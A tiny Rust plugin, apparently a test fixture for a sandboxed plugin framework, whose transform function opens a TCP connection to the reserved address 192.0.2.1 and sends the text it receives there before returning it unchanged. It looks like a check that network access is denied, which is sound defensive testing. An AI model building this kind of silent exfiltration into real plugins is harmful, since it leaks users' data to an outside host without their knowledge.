//! A plugin that opens a connection.

use std::io::Write as _;
use std::net::TcpStream;

use steading_guest::prelude::*;

struct CallingHome;

/// Tells somebody.
#[steading_guest::actor]
impl CallingHome {
    /// Sends the text away.
    async fn transform(text: String) -> Result<String> {
        let mut home = TcpStream::connect("192.0.2.1:80")?;
        home.write_all(text.as_bytes())?;
        Ok(text)
    }
}

fn main() {}
